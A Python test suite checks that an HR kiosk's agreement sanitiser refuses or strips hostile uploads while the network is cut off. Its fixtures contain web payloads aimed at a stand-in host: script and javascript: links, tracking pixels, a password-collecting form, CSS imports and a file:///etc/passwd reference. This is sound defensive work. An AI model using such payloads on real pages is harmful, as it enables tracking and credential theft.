"""Hostile agreement files for publishing: refused with a reason, or sanitised to plain text.

Every test runs with the network cut off (any socket connection fails the test), so "never
fetched" is checked, not assumed: sanitising, publishing, the kiosk's agreement page and the
signed PDF all run under the guard. What reaches the kiosk is also read back through Qt's own
Markdown reader: no image, no link and no resource request may come out of a published text.
Web and email addresses written in the text stay visible as plain text, never as links, so the
kiosk never opens a browser and the PDF holds no link.

Complements tests/test_agreements.py (the basic HTML and Markdown removals and refusals).
"""

from __future__ import annotations

import io
import signal
import socket
import unicodedata

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from support.network import NetworkUsed

from zzsign.services.agreement_sanitiser import html_to_markdown, sanitise_markdown
from zzsign.services.agreements import (
    MAX_BYTES,
    PublicationRefusedError,
    prepare_publication,
    publish,
)
from zzsign.services.store import shipped_documents

CLAUSE = shipped_documents()[0].third_party_clause
EVIL = "evil.example"


pytestmark = pytest.mark.usefixtures("network_cut_off")


# -- the network guard (network_cut_off, in conftest.py) ------------------------------------------
def test_the_guard_catches_a_connection(network_cut_off):
    with pytest.raises(NetworkUsed):
        socket.create_connection((EVIL, 80), timeout=1)
    with pytest.raises(NetworkUsed), socket.socket() as raw:
        raw.connect(("127.0.0.1", 9))
    network_cut_off.clear()


# -- what Qt makes of a text -----------------------------------------------------------------
def read_by_qt(markdown: str) -> dict[str, list[str]]:
    """What Qt's Markdown reader (as the kiosk and the PDF use it) makes of ``markdown``:
    the resources it asks for, its images and its link targets."""
    from PySide6.QtGui import QTextDocument

    class Recording(QTextDocument):
        def __init__(self) -> None:
            super().__init__()
            self.requested: list[str] = []

        def loadResource(self, kind: int, url):
            self.requested.append(url.toString())
            return None

    document = Recording()
    document.setMarkdown(markdown)
    document.setTextWidth(600)
    document.size()  # lay it out: images are asked for when they are placed
    return {"requested": document.requested, **images_and_links(document)}


def images_and_links(document) -> dict[str, list[str]]:
    """The image names and link targets in a laid-out QTextDocument."""
    images, links = [], []
    block = document.begin()
    while block.isValid():
        fragments = block.begin()
        while not fragments.atEnd():
            char_format = fragments.fragment().charFormat()
            if char_format.isImageFormat():
                images.append(char_format.toImageFormat().name())
            if char_format.isAnchor() or char_format.anchorHref():
                links.append(char_format.anchorHref())
            fragments += 1
        block = block.next()
    return {"images": images, "links": links}


NOTHING = {"requested": [], "images": [], "links": []}


def test_the_qt_probe_sees_images_and_links_in_an_unsanitised_text(qapp):
    seen = read_by_qt(f"![x](http://{EVIL}/p.png) [y](http://{EVIL}/) www.{EVIL}")
    assert seen["images"] == [f"http://{EVIL}/p.png"]
    assert seen["requested"] == [f"http://{EVIL}/p.png"]
    assert f"http://{EVIL}/" in seen["links"] and f"http://www.{EVIL}" in seen["links"]


# -- refused files -----------------------------------------------------------------------------
REFUSED = [
    (
        "binary junk",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
        "v2.md",
        "not UTF-8",
    ),
    ("invalid UTF-8", CLAUSE.encode() + b" caf\xe9 \xff\xfe", "v2.md", "not UTF-8"),
    ("UTF-16", f"# Agreement\n\n{CLAUSE}\n".encode("utf-16"), "v2.md", "not UTF-8"),
    ("NUL bytes", f"# Agreement\x00\n\n{CLAUSE}\n".encode(), "v2.md", "(U+0000)"),
    ("escape codes", f"\x1b[2J# Agreement\n\n{CLAUSE}\n".encode(), "v2.html", "(U+001B)"),
    ("direction override", f"# Agreement\n\n{CLAUSE} \u202egnirts\n".encode(), "v2.md", "(U+202E)"),
    (
        "huge",
        (f"{CLAUSE}\n\n" + "word " * (MAX_BYTES // 5)).encode(),
        "v2.md",
        f"larger than {MAX_BYTES // 1024} KB",
    ),
    ("executable", b"MZ\x90\x00" + bytes(64), "agreement.exe", "neither Markdown"),
    ("no suffix", f"{CLAUSE}\n".encode(), "agreement", "neither Markdown"),
    ("empty", b"", "v2.md", "no agreement text"),
    ("only a BOM", b"\xef\xbb\xbf", "v2.html", "no agreement text"),
    (
        "only scripts",
        b"<script>alert(1)</script><style>p{}</style>",
        "v2.html",
        "no agreement text",
    ),
    (
        "clause only in a script",
        f"<script>var x = '{CLAUSE}'</script><p>Hi.</p>".encode(),
        "v2.html",
        "Third Party Information.",
    ),
    (
        "clause only in an image's alt",
        f"<p>Hi.</p>![{CLAUSE}](http://{EVIL}/i.png)".encode(),
        "v2.md",
        "Third Party Information.",
    ),
]


@pytest.mark.parametrize(
    ("data", "filename", "says"), [r[1:] for r in REFUSED], ids=[r[0] for r in REFUSED]
)
def test_unusable_files_are_refused_with_one_sentence(data, filename, says):
    with pytest.raises(PublicationRefusedError) as refused:
        prepare_publication(data, filename)
    message = refused.value.message
    assert says in message, message
    assert message.endswith(".") and message.isprintable() and len(message) < 300


# -- sanitised files ---------------------------------------------------------------------------
HOSTILE_HTML = f"""\ufeff<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0; url=http://{EVIL}/go">
<base href="http://{EVIL}/">
<link rel="stylesheet" href="http://{EVIL}/s.css"><link rel="icon" href="http://{EVIL}/i.ico">
<style>@import url(http://{EVIL}/x.css); body {{ background: url(http://{EVIL}/bg.png) }}</style>
<script src="http://{EVIL}/a.js"></script><noscript><img src="http://{EVIL}/ns.gif"></noscript>
</head><body background="http://{EVIL}/body.png" onload="steal()">
<h1 style="background-image: url('http://{EVIL}/h.png')">Employee Confidentiality Agreement</h1>
<p onclick="steal()" onmouseover="steal()">Read <a href="javascript:steal()">the policy</a>,
<a href="http://{EVIL}/x" target="_blank">the handbook</a> and
<a href="jav&#x09;ascript&#58;steal()">this</a>.</p>
<iframe src="http://{EVIL}/frame"></iframe><iframe srcdoc="<script>steal()</script>"></iframe>
<object data="http://{EVIL}/o.swf"><embed src="http://{EVIL}/e.swf"></object>
<form action="http://{EVIL}/collect" method="post"><input name="password">
<input type="image" src="http://{EVIL}/submit.png"><button formaction="http://{EVIL}/b">Go</button>
<select><option>one</option></select><textarea>secret</textarea></form>
<img src="http://{EVIL}/pixel.gif" srcset="http://{EVIL}/2x.gif 2x" alt="tracker">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk">
<picture><source srcset="http://{EVIL}/p.webp"><img src="http://{EVIL}/p.png"></picture>
<svg onload="steal()"><image href="http://{EVIL}/s.png"/></svg>
<video poster="http://{EVIL}/v.png" src="http://{EVIL}/v.mp4"></video>
<audio src="http://{EVIL}/a.mp3"></audio><map><area href="http://{EVIL}/m"></map>
<table background="http://{EVIL}/t.png"><tr><td background="http://{EVIL}/td.png">cell</td>
</tr></table>
<!--[if IE]><script src="http://{EVIL}/ie.js"></script><![endif]-->
<h2>4. Third Party Information</h2>
<p>{CLAUSE}</p>
<ul><li>Ask <b>HR</b> at hr@zzservers.com or see https://intranet.zzservers.com/policy
and www.zzservers.com.</li><li><i>Unclosed <b>nesting</li></ul>
<div><p><span><em>deep</span></p>
<script>document.location = "http://{EVIL}/"</script>
<img src="http://{EVIL}/cut-off"
"""

HOSTILE_MARKDOWN = f"""\ufeff# Employee Confidentiality Agreement

Read ![logo](http://{EVIL}/logo.png) and [the policy](http://{EVIL}/policy "title") and
[the handbook][hb] and <https://shown.example/auto> and [js](javascript:steal()).

![a [nested] alt](http://{EVIL}/nested.png) ![ref image][img] ![shortcut]
![x](data:image/png;base64,iVBORw0KGgo=) [![linked image](http://{EVIL}/i.png)](http://{EVIL}/l)

<img src="http://{EVIL}/raw.png" alt=">" onerror="steal()"> <b onclick="steal()">bold</b>
<iframe src="http://{EVIL}/frame"></iframe><script>steal()</script>
<div style="background:url(http://{EVIL}/bg.png)">
<form action="http://{EVIL}/c"><input name="p"></form>
</div>
<!-- <img src="http://{EVIL}/comment.png"> -->
<style>@import url(http://{EVIL}/s.css)</style>
<link rel=stylesheet href=http://{EVIL}/l.css>
<meta http-equiv=refresh content="0;url=http://{EVIL}/">

> [quoted]: http://{EVIL}/quoted
> [quoted] and ![quoted]

- [listed]: http://{EVIL}/listed
- [listed] *emphasis* and **bold**

## 4. Third Party Information

{CLAUSE}

Contact hr@zzservers.com, https://intranet.zzservers.com/policy or www.zzservers.com.

[hb]: http://{EVIL}/handbook
[img]: http://{EVIL}/ref.png
[shortcut]: <http://{EVIL}/shortcut.png> "t"
<img src="http://{EVIL}/cut-off"""


@pytest.mark.parametrize(
    ("source", "filename"),
    [(HOSTILE_HTML, "v2.html"), (HOSTILE_MARKDOWN, "v2.md")],
    ids=["html", "markdown"],
)
def test_hostile_files_are_sanitised_to_plain_text_with_no_trace_of_the_danger(
    qapp, source, filename
):
    sanitised = prepare_publication(source.encode(), filename)
    text = sanitised.markdown_text
    for gone in (
        EVIL,
        "steal",
        "javascript",
        "data:image",
        "password",
        "secret",
        "tracker",
        "onclick",
        "onerror",
        "onload",
        "<",
        "\ufeff",
        "url(",
    ):
        assert gone not in text.replace("\\<", ""), (gone, text)
    assert f"\n\n{CLAUSE}\n" in text
    assert read_by_qt(text) == NOTHING
    # Addresses in the text stay, as text: escaped so that no Markdown reader links them.
    assert "hr\\@zzservers.com" in text and "https\\://intranet.zzservers.com/policy" in text
    assert "www\\.zzservers.com" in text
    if filename.endswith(".md"):  # an autolink's text is its address: kept, as text
        assert "https\\://shown.example/auto" in text
    assert sanitised.problems and all(p.isprintable() for p in sanitised.problems)


def test_a_published_hostile_text_is_stored_exactly_as_previewed(store):
    sanitised = prepare_publication(HOSTILE_MARKDOWN.encode(), "v2.md")
    agreement = publish(store.sessions, sanitised, 2)
    assert agreement.text == unicodedata.normalize("NFC", sanitised.markdown_text)
    assert agreement.third_party_clause == CLAUSE


# -- hypothesis: any mix of dangerous pieces ---------------------------------------------------
PIECES = [
    f"![x](http://{EVIL}/i.png)",
    f"[t](http://{EVIL}/)",
    f"<http://{EVIL}/a>",
    f"www.{EVIL}",
    f"me@{EVIL}",
    f"mailto:me@{EVIL}",
    f"<img src=http://{EVIL}/i>",
    f"<img src='http://{EVIL}/",
    f'<a href="http://{EVIL}">',
    "</a>",
    "<script>",
    "</script>",
    "<style>",
    "<!--",
    "-->",
    f"[r]: http://{EVIL}/r",
    "[r]",
    "![r]",
    "[",
    "]",
    "(",
    ")",
    "![",
    "<",
    ">",
    "`",
    "```",
    "\\",
    "> ",
    "- ",
    "1. ",
    "    ",
    "*",
    "**",
    "_",
    "#",
    "&lt;img src=x&gt;",
    "&#60;img&#62;",
    f"<table background=http://{EVIL}/t>",
    f'<div style="background:url(http://{EVIL})">',
    "file:///etc/passwd",
    "![x](/dev/zero)",
    "<iframe>",
    "<svg><image href=x>",
    "\n",
    "\n\n",
]
MIXES = st.lists(st.sampled_from(PIECES) | st.text(max_size=8), max_size=30).map("".join)


@settings(
    max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(source=MIXES)
@example(source=f"![a [b] c](http://{EVIL}/x.png)")
@example(source=f"- [r]: http://{EVIL}/r\n\n[r]")
@example(source=f">[r]: http://{EVIL}/r\n[r]")  # a quote needs no space after ">"
@example(source=f"[\\[t](http://{EVIL}/)")  # an escaped bracket in the link text
@example(source=f"_http://{EVIL}_ *www.{EVIL}* (me@{EVIL})")
def test_no_mix_of_dangerous_pieces_gives_qt_an_image_a_link_or_a_request(qapp, source):
    for markdown, _removed in (sanitise_markdown(source), html_to_markdown(source)):
        assert read_by_qt(markdown) == NOTHING, (source, markdown)


@settings(max_examples=200, deadline=None)
@given(
    data=st.one_of(
        st.binary(max_size=300),
        MIXES.map(str.encode),
        st.text(max_size=200).map(lambda t: t.encode("utf-8", "surrogatepass")),
    ),
    filename=st.sampled_from(["v2.md", "v2.html", "v2.HTM", "v2.markdown"]),
)
@example(data=b"<![x", filename="v2.html")
@example(data=b"\xef\xbb\xbf\xef\xbb\xbf", filename="v2.md")
def test_any_bytes_are_sanitised_or_refused_with_a_sentence(qapp, data, filename):
    try:
        sanitised = prepare_publication(data + f"\n\n{CLAUSE}\n".encode(), filename)
    except PublicationRefusedError as refused:
        assert refused.message.endswith(".") and refused.message.isprintable()
    else:
        assert read_by_qt(sanitised.markdown_text) == NOTHING


# -- inputs that would make a careless sanitiser slow or deep -----------------------------------
class TookTooLong(AssertionError):
    """A watchdog, not a timing: these inputs take well under a second; 60 s means a hang."""


def _watchdog(signum, frame):
    raise TookTooLong("sanitising did not finish (quadratic or worse on this input)")


NEAR_LIMIT = MAX_BYTES - len(CLAUSE.encode()) - 100
PATHOLOGICAL = {
    "unclosed scripts": "<script>" * (NEAR_LIMIT // 8),
    "open brackets": "[" * NEAR_LIMIT,
    "open images": "![" * (NEAR_LIMIT // 2),
    "open links": "[x](" * (NEAR_LIMIT // 4),
    "open tags": "<a " * (NEAR_LIMIT // 3),
    "open quotes in tags": '<a x="' * (NEAR_LIMIT // 6),
    "open comments": "<!--" * (NEAR_LIMIT // 4),
    "address-like": "a.http:" * (NEAR_LIMIT // 7),
    "nested quotes": "> " * (NEAR_LIMIT // 2),
    "nested list markers": "- " * (NEAR_LIMIT // 2),
    "emphasis runs": "*_" * (NEAR_LIMIT // 2),
}


#: Inputs whose unfinished construct rightly swallows the clause after it: refused, not rendered.
SWALLOWS_THE_CLAUSE = {
    ("unclosed scripts", "v2.md"),
    ("unclosed scripts", "v2.html"),
    ("open comments", "v2.md"),
    ("open comments", "v2.html"),
}


def _with_clause(pathological: str, filename: str) -> bytes:
    """The pathological text followed by the clause as its own paragraph, in the file's format."""
    if filename.endswith(".html"):
        return f"<html><body>{pathological}<p>{CLAUSE}</p></body></html>".encode()
    return f"{pathological}\n\n{CLAUSE}\n".encode()


@pytest.mark.parametrize("filename", ["v2.md", "v2.html"])
@pytest.mark.parametrize("kind", list(PATHOLOGICAL))
def test_pathological_inputs_are_sanitised_quickly_and_render(qapp, kind, filename):
    from zzsign.domain.documents import Agreement
    from zzsign.views.documents import document_viewer

    source = _with_clause(PATHOLOGICAL[kind], filename)
    assert len(source) <= MAX_BYTES
    previous = signal.signal(signal.SIGALRM, _watchdog)
    signal.alarm(60)
    try:
        if (kind, filename) in SWALLOWS_THE_CLAUSE:
            with pytest.raises(PublicationRefusedError) as refused:
                prepare_publication(source, filename)
            assert refused.value.message.endswith(".")
            assert (
                "no agreement text" in refused.value.message
                or "Third Party" in refused.value.message
            )
            return
        sanitised = prepare_publication(source, filename)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert len(sanitised.markdown_text) <= 3 * len(source)
    assert read_by_qt(sanitised.markdown_text) == NOTHING
    viewer = document_viewer(Agreement.from_text(2, "t", sanitised.markdown_text), "x")
    assert CLAUSE in " ".join(viewer.toPlainText().split())


def test_deeply_nested_html_lists_stay_small_and_render(qapp):
    from zzsign.domain.documents import Agreement
    from zzsign.views.documents import document_viewer

    source = ("<ul><li>level" * 3000 + f"<p>{CLAUSE}</p>").encode()
    sanitised = prepare_publication(source, "v2.html")
    assert len(sanitised.markdown_text) < 3 * len(source)  # was 13 MB from 30 KB
    assert any("list nesting deeper than" in p for p in sanitised.problems)
    viewer = document_viewer(Agreement.from_text(2, "t", sanitised.markdown_text), "x")
    assert viewer.toPlainText().count("level") == 3000


# -- publishing from the command line ------------------------------------------------------------
def test_publish_from_the_command_line_sanitises_refuses_and_never_fetches(
    cli_data_dir, store, tmp_path
):
    from support.cli import run_cli

    from zzsign.store.records import RecordRepository

    source = tmp_path / "agreement-v2.html"
    source.write_text(HOSTILE_HTML, encoding="utf-8")
    done = run_cli(
        "agreement", "publish", str(source), "--version", "2", "--data-dir", str(cli_data_dir)
    )
    assert done.code == 0, done.err
    removed = [line for line in done.err.splitlines() if line.startswith("Removed: ")]
    assert any("<script>" in line for line in removed) and any("<img>" in line for line in removed)
    with store.sessions() as db:
        stored = RecordRepository(db).newest_agreement()
    assert stored.version == 2 and EVIL not in stored.text and "steal" not in stored.text

    junk = tmp_path / "junk.md"
    junk.write_bytes(b"\x00\xff" * 1000)
    refused = run_cli(
        "agreement", "publish", str(junk), "--version", "3", "--data-dir", str(cli_data_dir)
    )
    assert refused.code == 1 and refused.out == ""
    assert refused.err.startswith("zzsign: The file is not UTF-8 text")
    assert len(refused.err.splitlines()) == 1
    huge = tmp_path / "huge.md"
    with huge.open("wb") as file:
        file.truncate(2 * 1024**3)  # sparse: only its first bytes are ever read
    refused = run_cli(
        "agreement", "publish", str(huge), "--version", "3", "--data-dir", str(cli_data_dir)
    )
    assert refused.code == 1 and "larger than 200 KB" in refused.err


# -- the kiosk and the PDF ----------------------------------------------------------------------
def test_the_kiosk_shows_addresses_as_text_and_never_opens_a_browser(
    qtbot, kiosk, store, service, hr_key, urls_qt_was_asked_to_open
):
    from pypdf import PdfReader
    from PySide6.QtCore import Qt
    from support.kiosk import Hire, KioskDriver
    from support.store import signed_copy_again, signed_session

    from zzsign.views.pages.agreement import AgreementPage

    publish(store.sessions, prepare_publication(HOSTILE_HTML.encode(), "v2.html"), 2)
    kiosk.reset()  # what Finish and the idle timeout do between hires
    driver = KioskDriver(qtbot, kiosk)
    driver.enter_details(Hire())
    driver.consent()
    page = driver.page
    assert isinstance(page, AgreementPage) and "version 2" in page.viewer.accessibleName()
    viewer = page.viewer
    assert images_and_links(viewer.document()) == {"images": [], "links": []}
    shown = " ".join(viewer.toPlainText().split())
    assert "https://intranet.zzservers.com/policy" in shown and "hr@zzservers.com" in shown
    assert EVIL not in shown and "steal" not in shown

    for address in ("intranet.zzservers.com", "hr@zzservers.com", "www.zzservers.com"):
        cursor = viewer.document().find(address)
        assert not cursor.isNull(), address
        viewer.setTextCursor(cursor)
        viewer.ensureCursorVisible()
        point = viewer.cursorRect(cursor).center()
        assert viewer.anchorAt(point) == ""  # not a link: the pointer stays an I-beam
        qtbot.mouseClick(viewer.viewport(), Qt.MouseButton.LeftButton, pos=point)
    assert urls_qt_was_asked_to_open == []
    assert driver.page is page

    receipt = service.sign(signed_session(service, "Ada Lovelace"), screen="1920x1080")
    assert receipt.appended.public.agreement_version == 2
    pdf = PdfReader(io.BytesIO(signed_copy_again(store, hr_key, receipt.record_id)))
    for number, pdf_page in enumerate(pdf.pages):
        for annotation in pdf_page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            assert "/URI" not in action, f"page {number + 1} links to {action.get('/URI')}"
    text = " ".join(" ".join(p.extract_text() for p in pdf.pages).split())
    assert "intranet.zzservers.com/policy" in text and EVIL not in text
